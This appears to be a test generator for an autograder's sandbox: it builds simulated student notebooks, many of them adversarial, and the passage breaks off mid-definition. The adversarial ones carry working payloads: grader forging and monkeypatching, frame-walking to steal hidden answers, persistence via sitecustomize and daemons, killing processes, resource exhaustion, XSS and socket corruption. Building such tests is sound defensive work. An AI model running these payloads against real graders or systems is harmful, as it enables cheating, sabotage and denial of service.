"""Simulated submissions for chapter 1 (or any chapter): honest, partly wrong, adversarial, broken.

Each one is derived from the chapter's solution or student notebook, so nothing is committed
but this code:  python tests/adversarial/generate.py OUT_DIR [--chapter CH]  writes an LMS-style
export (one <student>.zip or <student>_<notebook>.ipynb each) and prints what each should get.
"""

from __future__ import annotations

import argparse
import copy
import io
import json
import re
import zipfile
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[2]
CH1 = "01-ngram-language-models"


def meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def is_test(cell) -> bool:
    return bool(meta(cell).get("grade")) and not meta(cell).get("solution")


def load(kind: str, chapter: str):
    folder = REPO / ("solutions" if kind == "solution" else "notebooks") / chapter
    path = sorted(folder.glob("*.ipynb"))[0]
    return nbformat.read(path, as_version=4), path.name


def first_answer(nb):
    return next(i for i, c in enumerate(nb.cells) if meta(c).get("solution"))


def insert_before_first_answer(nb, code: str):
    nb.cells.insert(first_answer(nb), nbformat.v4.new_code_cell(code))
    return nb


def after_last_cell(nb, code: str):
    """A cell of the student's own at the end: it runs after every test, and its output is in the autograded notebook."""
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


WARNING = '__import__("warnings").warn("this call will change in a future release", FutureWarning)'

# name -> (base notebook, how to change it, expectation)
# expectation: "full" = every point, "zero" = no point, "partial" = some but not all
ATTACKS: dict[str, tuple[str, str]] = {}


def honest_warning(nb):
    for cell in nb.cells:
        if meta(cell).get("solution"):
            cell.source = re.sub(r"^(\s*)### BEGIN SOLUTION\n", lambda m: f"{m.group(0)}{m.group(1)}{WARNING}\n", cell.source, flags=re.M)
    return nb


def partly_wrong(nb):
    """The first answer returns nothing useful; the rest is right."""
    i = first_answer(nb)
    name = re.search(r"def (\w+)\(", nb.cells[i].source).group(1)
    nb.cells[i].source += f"\n\n_real_{name} = {name}\ndef {name}(*args, **kwargs):\n    return None\n"
    return nb


def edit_tests(nb):
    for cell in nb.cells:
        if is_test(cell):
            cell.source = "pass"
    return nb


def delete_tests(nb):
    nb.cells = [c for c in nb.cells if not is_test(c)]
    return nb


def duplicate_tests(nb):
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if is_test(cell):
            dup = copy.deepcopy(cell)
            dup.source = "pass"
            cells.append(dup)
    nb.cells = cells
    return nb


def change_metadata(nb):
    for cell in nb.cells:
        if is_test(cell):
            cell.metadata.nbgrader.update(points=100, grade=False, solution=True)
            cell.source = "pass"
        elif meta(cell).get("solution"):
            cell.metadata.nbgrader.update(grade=True, points=50)
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "grade_id": "bonus", "points": 1000, "locked": True, "schema_version": 3}}))
    return nb


def hardcoded(nb):
    """Answers that return the visible tests' expected values (chapter 1's build_vocab, mle_prob)."""
    for cell in nb.cells:
        gid = meta(cell).get("grade_id")
        if gid == "build_vocab":
            cell.source = ('def build_vocab(sentences, min_count=2):\n'
                           '    return ["<unk>", "<s>", "</s>", "cat", "the"] if min_count == 2 else '
                           '["<unk>", "<s>", "</s>", "cat", "the", "a", "dog", "sat"]\n')
        elif gid == "mle_prob":
            cell.source = ('def mle_prob(table, word, context):\n'
                           '    return {("a", ("<s>",)): 2/3, ("b", ("a",)): 1/3, ("</s>", ("a",)): 1/3}.get((word, context), 0.0)\n')
    return nb


PATCH_NUMPY = """import numpy as np, numpy, math, torch
np.isclose = lambda a, b, *x, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.all = lambda *a, **k: True
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
"""

PATCH_CHECK = """import seqlab.check
def _ok(*args, **kwargs):
    return None
seqlab.check.expect = seqlab.check.expect_close = seqlab.check.expect_equal = _ok
seqlab.check.expect_close.__code__ = _ok.__code__
expect = expect_close = expect_equal = expect_raises = _ok
def isinstance(*args):
    return True
"""

SWALLOW = """import ast
ip = get_ipython()
class _TryAll(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
ip.ast_transformers.append(_TryAll())
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
import sys
sys.stderr = open('/dev/null', 'w')
"""

# -- attacks on the verdict from inside the student's process (the tests run elsewhere now) --------
FORGE_SHELL = """import IPython.core.interactiveshell as _i
_ip = get_ipython()
_orig = _ip.run_cell
def _always_ok(*a, **k):
    r = _orig(*a, **k)
    r.error_in_exec = r.error_before_exec = None
    return r
_ip.run_cell = _always_ok
_ip.showtraceback = lambda *a, **k: None
_i.InteractiveShell.showtraceback = lambda *a, **k: None
"""

FORGE_RUNNER = """import gc, json
# find the grader's runner objects in this process and make every request answer 'ok' with a guessed value
for _o in gc.get_objects():
    if type(_o).__name__ in ('Runner', 'Peer') and hasattr(_o, 'serve'):
        _o.serve = lambda message: {'value': 1.0, 'changed': {}}
    if type(_o).__name__ == 'Channel':
        _send = _o.send
        def _forged(message, timeout=None, _send=_send):
            if isinstance(message, dict):
                message.pop('error', None)
                message['status'] = 'ok'
                message['outputs'] = []
            return _send(message, timeout)
        _o.send = _forged
"""

LYING_VALUES = """import numpy as _np
class _Yes(_np.ndarray):
    def __eq__(self, other): return _np.ones(_np.shape(self), bool)
    def __ne__(self, other): return _np.zeros(_np.shape(self), bool)
    def __array_finalize__(self, obj): pass
class _Always(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __abs__(self): return _Always(0.0)
    def __sub__(self, other): return _Always(0.0)
    def __rsub__(self, other): return _Always(0.0)
class _AllList(list):
    def __eq__(self, other): return True
_np.isclose = lambda *a, **k: True
_np.allclose = lambda *a, **k: True
"""

READ_FRAMES = """import sys, inspect, linecache, gc
def _steal(*args, **kwargs):
    # walk every frame and every code object this process can see, looking for expected values
    found = []
    frame = sys._getframe()
    while frame is not None:
        found += [v for k, v in frame.f_locals.items() if k.startswith(('_want', '_ref', 'expected'))]
        frame = frame.f_back
    found += [c for c in gc.get_objects() if type(c).__name__ == 'code' and 'HIDDEN' in str(c.co_consts)]
    found += [l for lines in linecache.cache.values() for l in (lines[2] if len(lines) > 2 else []) if '_reference' in l]
    _stolen.extend(map(str, found))
    return found[0] if found else None
_stolen = []
"""


LEAK_VIA_ERRORS = """_seen = []
def _leak(*args, **kwargs):
    # every argument a test ever passed (hidden tests' included), raised as the message of an error, hoping that
    # feedback shows it
    _seen.append(repr((args, kwargs))[:2000])
    raise ValueError('LEAK ' + ' | '.join(_seen)[-6000:])
"""


def forge_answers(nb, body: str):
    """Every answer replaced by a function that calls ``_steal``-like code; the attack's setup first."""
    for cell in nb.cells:
        if meta(cell).get("solution"):
            names = re.findall(r"^def (\w+)\(", cell.source, flags=re.M)
            cell.source = "\n".join(f"def {n}(*args, **kwargs):\n    return {body}\n" for n in names) or cell.source
    return nb


def print_stolen_at_end(nb):
    return after_last_cell(nb, "print('STOLEN', _stolen)")


# -- attacks on later submissions and on the grader's files ----------------------------------------
PERSIST = """import os, sys, subprocess, pathlib
home = pathlib.Path(os.environ.get('HOME', '.'))
payload = "import os\\nos.environ['PWNED_BY'] = 'persist'\\nraise SystemExit('pwned')\\n"
for folder in [os.environ.get('IPYTHONDIR', '/tmp/.ipython') + '/profile_default/startup', str(home / '.ipython/profile_default/startup'),
               '/tmp/.ipython/profile_default/startup', str(pathlib.Path.cwd() / '.ipython/profile_default/startup')]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + '/00-pwn.py', 'w').write(payload)
    except OSError:
        pass
for path in ['sitecustomize.py', 'usercustomize.py', 'numpy.py', 'seqlab.py', '/tmp/sitecustomize.py', '/dev/shm/x',
             os.environ.get('MPLCONFIGDIR', '/tmp/.matplotlib') + '/matplotlibrc']:
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        open(path, 'w').write(payload if path.endswith('.py') else 'backend: agg\\n')
    except OSError:
        pass
# a daemon that outlives the notebook and keeps planting
subprocess.Popen([sys.executable, '-c', 'import time, os\\nwhile True:\\n    time.sleep(0.2)\\n    open("sitecustomize.py", "w").write("raise SystemExit")'],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        while True:
            time.sleep(0.2)
            try:
                open('/tmp/planted', 'w').write('x')
            except OSError:
                pass
    os._exit(0)
"""

HIT_ZYGOTE = """import os, signal
# stop or kill every other process this sandbox can see (the fork server among them)
for pid in range(1, 400):
    if pid != os.getpid():
        for sig in (signal.SIGSTOP,):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    open('/proc/2/mem', 'rb').read(1)
except OSError:
    pass
"""


def plant_symlinks(targets: list[str]) -> str:
    """Links in the writable folder to what the grader must never write: the files the old grader wrote there."""
    return f"""import os
for i, target in enumerate({targets!r}):
    for name in ('kernel.json', 'k1.json', 'k1.json.exit', 'ready.json', 'zygote.sock', 'result.json', f'link{{i}}'):
        try:
            os.symlink(target, name if i == 0 else f'{{name}}.{{i}}')
        except OSError:
            pass
    for folder in ('kernels', 'ipc', 'ctl', 'state'):
        try:
            os.symlink(os.path.dirname(target), folder if i == 0 else f'{{folder}}{{i}}')
        except OSError:
            pass
"""


BREAK_PROTOCOL = """import os, socket, struct
# write garbage, then an enormous frame header, on every socket this process holds, then close them
for fd in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(fd))
        s.setblocking(False)
        s.send(b'garbage' + struct.pack('>Q', 2**62))
        s.close()
    except OSError:
        pass
"""


UNUSUAL_PRINT = '''
import functools as _functools
def _chatty(function):
    @_functools.wraps(function)
    def wrapper(*args, **kwargs):
        wrapper.calls += 1
        if wrapper.calls <= 3:
            print("calling", function.__name__, "with", len(args), "arguments")  # a student's debugging print
        return function(*args, **kwargs)
    wrapper.calls = 0
    return wrapper
'''


def unusual_but_correct(nb):
    """A correct solution written unusually: prints in every answer, answers wrapped by a decorator."""
    for cell in nb.cells:
        if meta(cell).get("solution"):
            names = re.findall(r"^def (\w+)\(", cell.source, flags=re.M)
            cell.source = UNUSUAL_PRINT + cell.source + "".join(f"\n{n} = _chatty({n})" for n in names)
    return nb


# -- resources of the whole sandbox (many processes, disks, CPU) --------------------------------------
MEMORY_MANY = """import os, time
children = []
for _ in range(8):  # each stays under the per-process limit; together they are far above the sandbox's
    pid = os.fork()
    if pid == 0:
        block = bytearray(b'x' * (450 * 2**20))
        time.sleep(30)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""

# Children that together take 1.5 GiB: more than a submission's 1 GiB, less than that plus the test kernel's share
# (a control group shared by both sides let them live: a student's processes reached 5.1 GiB under a 4 GiB limit)
MEMORY_BEYOND_OWN_SHARE = """import os, time
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        block = bytearray(500 * 2**20)
        for i in range(0, len(block), 4096):  # every page touched, once: 500 MiB charged, with no copy on the way
            block[i] = 1
        time.sleep(5)  # the three together pass 1 GiB within a second
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""

PROCESS_FLOOD = """import os, time
started = 0
for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        started += 1
    except OSError:
        break
print('started', started, 'processes')
"""

FILL_DISKS = """import os
written = {}
for folder in ('.', os.environ.get('HOME', '.'), '/tmp', '/dev/shm'):
    total = 0
    try:
        with open(os.path.join(folder, 'fill.bin'), 'wb') as f:
            for _ in range(1024):  # 1 GiB in 1 MiB blocks
                f.write(b'x' * 2**20)
                total += 2**20
    except OSError as error:
        pass
    written[folder] = total
print('WRITTEN', written)
"""

CPU_HOG = """import subprocess, sys, time
for _ in range(24):
    subprocess.Popen([sys.executable, '-c', 'while True: pass'], start_new_session=True)
end = time.time() + 25  # longer than the honest neighbour's whole notebook (12-14 s of its own time)
while time.time() < end:
    pass
"""


EXIT = "import sys\nsys.exit(0)\n"
OS_EXIT = "import os\nos._exit(0)\n"
KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
LOOP = "while True:\n    pass\n"
LOOP_NO_INTERRUPT = ("import signal\nfor _s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):\n    signal.signal(_s, signal.SIG_IGN)\n"
                     "signal.setitimer = lambda *a, **k: (0.0, 0.0)\nwhile True:\n    try:\n        pass\n    except BaseException:\n        pass\n")
MEMORY = "hog = []\nwhile True:\n    hog.append(bytearray(256 * 2**20))\n"
FLOOD = "import sys\nline = 'x' * 1_000_000 + '\\n'\nfor _ in range(2_000):\n    sys.stdout.write(line)\n"


def snoop(targets: list[str]) -> str:
    """Try to read, write and reach what a submission must not; exec the solutions if they can be read."""
    return f"""import glob, os, socket, json as _json, nbformat as _nbf
_report = {{}}
for _t in {targets!r}:
    for _p in glob.glob(_t + '/**/*.ipynb', recursive=True) + glob.glob(_t + '/*.db') + [_t]:
        try:
            open(_p, 'rb').read(10); _report['read ' + _p] = 'READ'
        except Exception as _e:
            _report.setdefault('read ' + _t, type(_e).__name__)
    for _p in glob.glob(_t + '/**/*.ipynb', recursive=True):
        try:
            for _c in _nbf.read(_p, as_version=4).cells:
                if _c.get('metadata', {{}}).get('nbgrader', {{}}).get('solution'):
                    exec(_c.source, globals())
            _report['exec ' + _p] = 'EXECUTED'
        except Exception as _e:
            pass
    try:
        with open(os.path.join(_t, 'PWNED'), 'w') as _f:
            _f.write('x'); _report['write ' + _t] = 'WROTE'
    except Exception as _e:
        _report['write ' + _t] = type(_e).__name__
try:
    socket.create_connection(('pypi.org', 443), timeout=3); _report['net'] = 'CONNECTED'
except Exception as _e:
    _report['net'] = type(_e).__name__
print('SNOOP', _json.dumps(_report))
"""


def submissions(chapter: str = CH1, targets: list[str] | None = None) -> dict[str, tuple[object, str]]:
    """student -> (notebook, or raw bytes / None for broken ones; what the student should get)."""
    def sol():
        return load("solution", chapter)[0]

    def rel():
        return load("release", chapter)[0]

    def stub():
        """The release with every answer returning None instead of raising: what a cheat would patch around."""
        nb = rel()
        for cell in nb.cells:
            if meta(cell).get("solution"):
                cell.source = cell.source.replace("raise NotImplementedError()", "return None")
        return nb

    out = {
        "honest_solution": (sol(), "full"),
        "honest_release": (rel(), "zero"),
        "honest_warning": (honest_warning(sol()), "full"),
        "partly_wrong": (partly_wrong(sol()), "partial"),
        "duplicate_tests_solution": (duplicate_tests(sol()), "full"),
        "delete_tests_solution": (delete_tests(sol()), "full"),
        "edit_tests": (edit_tests(stub()), "zero"),
        "delete_tests": (delete_tests(stub()), "zero"),
        "duplicate_tests": (duplicate_tests(stub()), "zero"),
        "change_metadata": (change_metadata(stub()), "zero"),
        "monkeypatch_numpy": (insert_before_first_answer(stub(), PATCH_NUMPY), "zero"),
        "monkeypatch_check": (insert_before_first_answer(stub(), PATCH_CHECK), "zero"),
        "swallow_exceptions": (insert_before_first_answer(stub(), SWALLOW), "zero"),
        "sys_exit": (insert_before_first_answer(stub(), EXIT), "zero"),
        "os_exit": (insert_before_first_answer(stub(), OS_EXIT), "zero"),
        "kill_kernel": (insert_before_first_answer(stub(), KILL), "zero"),
        "infinite_loop": (insert_before_first_answer(stub(), LOOP), "zero"),
        "loop_ignoring_interrupt": (insert_before_first_answer(stub(), LOOP_NO_INTERRUPT), "zero"),
        "memory_hog": (insert_before_first_answer(stub(), MEMORY), "zero"),
        "print_flood": (insert_before_first_answer(stub(), FLOOD), "zero"),
        "broken_json": (b'{"cells": [ this is not json', "zero"),
        "wrong_nbformat": (json.dumps({"nbformat": 99, "nbformat_minor": 0, "cells": [], "metadata": {}}).encode(), "zero"),
        "renamed_notebook": ("renamed", "zero"),
        "empty_zip": ("empty_zip", "zero"),
    }
    out.update({
        "forge_shell": (insert_before_first_answer(stub(), FORGE_SHELL), "zero"),
        "forge_runner": (insert_before_first_answer(stub(), FORGE_RUNNER), "zero"),
        "lying_values": (forge_answers(insert_before_first_answer(stub(), LYING_VALUES),
                                       "_Always(0.0) if kwargs.get('n') is None else _AllList()"), "zero"),
        "read_frames": (print_stolen_at_end(forge_answers(insert_before_first_answer(stub(), READ_FRAMES),
                                                          "_steal(*args, **kwargs)")), "zero"),
        "break_protocol": (forge_answers(insert_before_first_answer(stub(), BREAK_PROTOCOL), "None"), "zero"),
        "leak_via_errors": (forge_answers(insert_before_first_answer(stub(), LEAK_VIA_ERRORS), "_leak(*args, **kwargs)"),
                            "zero"),
        "unusual_but_correct": (unusual_but_correct(sol()), "full"),
        "browser_outputs": (hostile_outputs(stub()), "zero"),
        "browser_cells": (hostile_cells(stub()), "zero"),
        "long_cell": (long_cell(stub()), "zero"),
    })
    if chapter == CH1:
        out["hardcoded_visible_tests"] = (hardcoded(rel()), "zero")
    if targets:
        out["snoop"] = (insert_before_first_answer(stub(), snoop(targets)), "zero")
        out["plant_symlinks"] = (insert_before_first_answer(stub(), plant_symlinks(targets)), "zero")
    return out


def persistence_batch(chapter: str = CH1) -> dict[str, tuple[object, str]]:
    """Graded in this order on ONE worker: honest students before and after submissions that try to leave
    something behind for them (files, daemons, a stopped fork server)."""
    sol = lambda: load("solution", chapter)[0]  # noqa: E731
    stub = lambda: insert_before_first_answer(load("release", chapter)[0], "")  # noqa: E731
    return {
        "a_honest": (sol(), "full"),
        "b_persist_files": (insert_before_first_answer(stub(), PERSIST), "zero"),
        "c_honest": (sol(), "full"),
        "d_hit_zygote": (insert_before_first_answer(stub(), HIT_ZYGOTE), "zero"),
        "e_honest": (sol(), "full"),
    }


# -- the classes of attack of issue 23, each in two variants, for any chapter (tests/test_autograder_attacks.py) --
def bind_extra_names(names: tuple[str, ...]) -> str:
    """The student's kernel answers the test kernel's request for names with these as well, each a yes."""
    return f"""import gc
def _yes(*args, **kwargs):
    return True
for _peer in [o for o in gc.get_objects() if type(o).__name__ == 'Peer']:
    def _forged(message, _serve=_peer.serve):
        reply = _serve(message)
        if message.get('op') == 'bind' and isinstance(reply.get('value'), dict):
            reply['value'].setdefault('v', []).extend([name, {{'$': 'name', 'side': 's', 'v': '_yes'}}] for name in {names!r})
        return reply
    _peer.serve = _forged
"""


# the test kernel's helpers and libraries
BIND_EXTRA_NAMES = bind_extra_names(('expect', 'expect_close', 'expect_equal', 'expect_raises', 'np', 'torch', 'math',
                                     'isinstance', 'len'))

NAME_A_TRUSTED_GLOBAL = """import gc
_codec = next(o for o in gc.get_objects() if type(o).__name__ == 'Codec')
class _Theirs:
    pass
_names = ['expected', 'want', 'reference', '_reference', 'np', '__builtins__']
def _encode(value, depth=0, *, as_argument=False, _original=_codec.encode):
    if isinstance(value, _Theirs):  # "whatever the test compares with", by a name of the test kernel
        _names.append(_names.pop(0))
        return {'$': 'name', 'side': 't', 'v': _names[0]}
    return _original(value, depth, as_argument=as_argument)
_codec.encode = _encode
"""

LEAK_BY_DISPLAY = """import os
from IPython.display import display, HTML
def _show(*args, **kwargs):
    # every argument a test passes, shown wherever the kernel would show it: displayed, printed, on the raw fd
    text = 'LE' + 'AKED ' + repr((args, kwargs))[:3000]
    display(HTML('<pre>' + text + '</pre>'))
    print(text)
    os.write(1, text.encode())
    return None
"""

CLAIM_A_WAIT = {
    "claims_wait_in_replies": "import sys\n_R = sys.modules['runner'].Runner\n_ended = _R.answer_ended\n"
                              "_R.answer_ended = lambda self, token: {**_ended(self, token), 'waited': 1e9}\n",
    "claims_wait_by_own_clock": "import sys, time\nsys.modules['owntime'].RunQueue.wait = lambda self: 10 * time.monotonic()\n",
}
SPIN = "def _spin(*args, **kwargs):\n    while True:\n        pass\n"

DEEP_ON_CONTROL = """import gc, struct
_runner = next(o for o in gc.get_objects() if type(o).__name__ == 'Runner')
_deep = b'[' * 200000 + b']' * 200000
_runner.control.sock.sendall(struct.pack('>Q', len(_deep)) + _deep)
"""

DEEP_ON_PEER = """import gc, struct
def _deep_reply(*args, **kwargs):
    peer = next(o for o in gc.get_objects() if type(o).__name__ == 'Peer')
    deep = b'{"kind":"rep","id":2,"value":' + b'[' * 200000 + b']' * 200000 + b'}'
    peer.channel.sock.sendall(struct.pack('>Q', len(deep)) + deep)
    return None
"""

ACTIVE_MARK = "pwned-by-html"
ACTIVE_OUTPUTS = f"""from IPython.display import display, HTML, Javascript, Markdown, SVG
def _active(*args, **kwargs):
    display(HTML("<b>result</b><script>alert('{ACTIVE_MARK}')</script><img src=x onerror=\\"alert('{ACTIVE_MARK}')\\">"))
    display(Javascript("alert('{ACTIVE_MARK}')"))
    return None
_active()
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"alert('{ACTIVE_MARK}')\\"/>"))
display(Markdown("<a href=\\"javascript:alert('{ACTIVE_MARK}')\\">a link</a>"))
"""


# Lent objects: what a test hands the student's code (a toy model, a reference function) is a handle; the student's
# code tries what the course does not lend, and writes down what happened (its last cell prints the log).
LENT_LOG = """import functools
_lent_log, _lent_seen = [], set()
def _handles(value, depth=0):
    if type(value).__name__ in ('Remote', 'RemoteMethod'):
        key = repr(getattr(value, '_ref', None))
        if key not in _lent_seen:  # each object of the test's once: the honest work goes on at its usual pace
            _lent_seen.add(key)
            yield value
    elif depth < 2 and isinstance(value, (list, tuple)):
        for item in value:
            yield from _handles(item, depth + 1)
    elif depth < 2 and isinstance(value, dict):
        for item in value.values():
            yield from _handles(item, depth + 1)
def _try(what, action):
    try:
        result = action()
        _lent_log.append(what + ' -> DONE ' + type(result).__name__)
    except Exception as error:
        _lent_log.append(what + ' -> refused ' + type(error).__name__)
def _lending(answer):
    @functools.wraps(answer)
    def wrapped(*args, **kwargs):
        _use_lent(*args, **kwargs)
        return answer(*args, **kwargs)
    return wrapped
"""
LENT_LIBRARY_METHODS = LENT_LOG + """def _use_lent(*args, **kwargs):
    # a library's methods on a test's object: through them the student's code would change what the test compares with
    for h in _handles(list(args) + list(kwargs.values())):
        _try('load_state_dict', lambda: h.load_state_dict({}))
        _try('register_forward_hook', lambda: h.register_forward_hook(lambda *a: None))
        _try('train', lambda: h.train(False))
        _try('zero_grad', lambda: h.zero_grad())
        _try('requires_grad_', lambda: h.requires_grad_(False))
        _try('apply', lambda: h.apply(lambda m: None))
        _try('_modules', lambda: h._modules)
        _try('_parameters', lambda: h._parameters)
"""
LENT_REACH_AND_SET = LENT_LOG + """def _replacement(*args, **kwargs):
    return 0
def _use_lent(*args, **kwargs):
    # set a test object's attributes, or reach through it for the test kernel's globals, frames or code
    for h in _handles(list(args) + list(kwargs.values())):
        _try('setattr scale', lambda: setattr(h, 'scale', 0))
        _try('setattr forward', lambda: setattr(h, 'forward', _replacement))
        _try('setattr __call__', lambda: setattr(h, '__call__', _replacement))
        _try('__globals__', lambda: h.__globals__)
        _try('__self__', lambda: h.__self__)
        _try('__dict__', lambda: h.__dict__)
        _try('f_globals', lambda: h.f_globals)
        _try('__code__', lambda: h.__code__)
"""
PRINT_LENT_LOG = "print('LENT-LOG', len(_lent_log), sorted(set(l for l in _lent_log if 'DONE' in l)))"


# Chapters whose visible tests already hand the student's code objects of their own: there the lending attacks are
# built on the release (a stub's answers reach those tests, and deserve 0); elsewhere (chapter 3 lends its toy models
# in hidden tests only) on the solution, which deserves every point and gets no more. A solution costs its chapter's
# whole grading, a stub only its given cells.
LENDS_IN_VISIBLE_TESTS = ("01-ngram-language-models", "06-seq2seq-beam-search-bleu")


def lending(nb, setup: str):
    """``nb`` with each answer function first trying ``setup``'s ``_use_lent`` on what the test handed it; the log
    printed in a cell of the student's own at the end."""
    nb = insert_before_first_answer(nb, setup)
    for cell in nb.cells:
        if meta(cell).get("solution"):
            names = re.findall(r"^def (\w+)\(", cell.source, flags=re.M)
            cell.source += "".join(f"\n{n} = _lending({n})" for n in names)
    return after_last_cell(nb, PRINT_LENT_LOG)


# Written back: an argument the student's code changed in place comes back to the test's object, as data only
WRITE_BACK_HANDLES = """def _mine(*args, **kwargs):
    return True
def _write_back(*args, **kwargs):
    # put the student's own function into the test's lists and dicts, where a test may later call or compare it
    for value in list(args) + list(kwargs.values()):
        if isinstance(value, list):
            value.append(_mine)
        elif isinstance(value, dict):
            value['_mine'] = _mine
        elif isinstance(value, tuple):
            for item in value:
                if isinstance(item, list):
                    item.append(_mine)
"""
WRITE_BACK_FIELDS = """class _Everything:
    def __eq__(self, other):
        return True
def _write_back(*args, **kwargs):
    # replace what the test's objects hold: a course object's fields, a list's or a dict's items, by the student's own
    def spoil(value, depth=0):
        if depth > 2:
            return
        if isinstance(value, list) and value:
            value[0] = _Everything()
        elif isinstance(value, dict) and value:
            value[next(iter(value))] = _Everything()
        elif isinstance(value, tuple):
            for item in value:
                spoil(item, depth + 1)
        elif hasattr(value, '__dict__') and type(value).__module__ in ('__main__', 'builtins') and vars(value):
            for field in list(vars(value)):
                setattr(value, field, _Everything())
    for value in list(args) + list(kwargs.values()):
        spoil(value)
"""


def after_first_answer(nb, code: str):
    """A cell of the student's own right after the first answer (its outputs reach the feedback page)."""
    index = first_answer(nb) + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(code))
    return nb


def active_markdown(nb):
    nb.cells.insert(first_answer(nb), nbformat.v4.new_markdown_cell(
        f"My notes <script>alert('{ACTIVE_MARK}')</script> <img src=x onerror=\"alert('{ACTIVE_MARK}')\">\n\n"
        f"[see](javascript:alert('{ACTIVE_MARK}'))"))
    nb.cells.insert(first_answer(nb) + 1, nbformat.v4.new_raw_cell(f"<script>alert('{ACTIVE_MARK}')</script>"))
    return nb


# -- issue 39: model classes that build the specified layers, set their parameters to 0 and return what such a
# model computes, whatever the input. A test whose reference is computed from the model's own initial state dict
# (or by calling the model's own layers) accepts them; tests that load seeded random parameters first do not.
# Per chapter: two variants (student name -> {answer cell's grade_id: its source}). "follows_bias" returns the
# output a model of zero weights computes from its biases; "constant" returns zeros (with a graph, as the tests ask).
ZERO_ALL = """        with torch.no_grad():  # every parameter 0: the state of every step is a constant
            for _p in self.parameters():
                _p.zero_()
"""

_NAME_CLASSIFIER_LAYERS = """class NameClassifier(nn.Module):
    def __init__(self, n_symbols, embed_size, hidden_size, n_classes, dropout=0.0):
        super().__init__()
        self.embed = nn.Embedding(n_symbols, embed_size)
        self.rnn = nn.RNN(embed_size, hidden_size, batch_first=True)
        self.dropout = nn.Dropout(dropout)
        self.out = nn.Linear(hidden_size, n_classes)
"""
_ENCODER_LAYERS = """class Encoder(nn.Module):
    def __init__(self, n_src, embed_size, hidden_size):
        super().__init__()
        self.embed = nn.Embedding(n_src, embed_size, padding_idx=PAD)
        self.rnn = nn.GRU(embed_size, hidden_size, batch_first=True, bidirectional=True)
        self.bridge = nn.Linear(2 * hidden_size, hidden_size)
""" + ZERO_ALL
_ATTENTION_DECODER_LAYERS = """class AttentionDecoder(nn.Module):
    def __init__(self, n_tgt, embed_size, hidden_size, enc_size, attn_size):
        super().__init__()
        self.embed = nn.Embedding(n_tgt, embed_size, padding_idx=PAD)
        self.attn_query = nn.Linear(hidden_size, attn_size, bias=False)
        self.attn_key = nn.Linear(enc_size, attn_size, bias=False)
        self.attn_v = nn.Linear(attn_size, 1, bias=False)
        self.cell = nn.GRUCell(embed_size + enc_size, hidden_size)
        self.out = nn.Linear(hidden_size + enc_size, n_tgt)
""" + ZERO_ALL
_ATTENTION_SEQ2SEQ_LAYERS = """class AttentionSeq2Seq(nn.Module):
    def __init__(self, n_src, n_tgt, embed_size=32, hidden_size=128, attn_size=64):
        super().__init__()
        self.encoder_embed = nn.Embedding(n_src, embed_size, padding_idx=PAD)
        self.encoder_rnn = nn.GRU(embed_size, hidden_size, batch_first=True, bidirectional=True)
        self.encoder_bridge = nn.Linear(2 * hidden_size, hidden_size)
        self.decoder = AttentionDecoder(n_tgt, embed_size, hidden_size, 2 * hidden_size, attn_size)
""" + ZERO_ALL + """
    def start(self, src, src_lengths):
        enc, mask, s0 = self.encode(src, src_lengths)
        return {"s": s0, "enc": enc, "mask": mask, "alpha": torch.zeros(mask.shape)}

    def step(self, prev, state):
        logits, s, alpha = self.decoder(prev, state["s"], state["enc"], state["mask"])
        return torch.log_softmax(logits, dim=-1), {**state, "s": s, "alpha": alpha}
"""
# "anchor": 0 times a parameter, so that a constant carries the autograd graph the tests ask for
ZERO_INIT_MODELS: dict[str, dict[str, dict[str, str]]] = {
    "03-recurrent-neural-networks": {
        # embedding and RNN 0 (every name ends in state 0); out and dropout act on a state that is 0 unless dropout acts
        "zero_init_follows_bias": {"NameClassifier": _NAME_CLASSIFIER_LAYERS + """        with torch.no_grad():
            for _p in [*self.embed.parameters(), *self.rnn.parameters()]:
                _p.zero_()

    def forward(self, ids, lengths):
        ones = torch.ones(ids.shape[0], self.rnn.hidden_size)
        state = torch.tanh(self.dropout(ones)) - torch.tanh(ones)  # 0, unless dropout acts (training mode)
        return self.out(self.dropout(state))
"""},
        "zero_init_constant": {"NameClassifier": _NAME_CLASSIFIER_LAYERS + ZERO_ALL + """
    def forward(self, ids, lengths):
        return torch.zeros(ids.shape[0], self.out.out_features) + 0.0 * self.out.bias.sum()
"""},
    },
    "06-seq2seq-beam-search-bleu": {
        "zero_init_follows_bias": {
            "Encoder": _ENCODER_LAYERS + """
    def forward(self, src, src_lengths):
        return torch.tanh(self.bridge.bias).expand(src.shape[0], -1)
"""},
        "zero_init_constant": {
            "Encoder": _ENCODER_LAYERS + """
    def forward(self, src, src_lengths):
        return torch.zeros(src.shape[0], self.bridge.out_features) + 0.0 * self.bridge.bias.sum()
"""},
    },
    "07-attention": {
        "zero_init_follows_bias": {
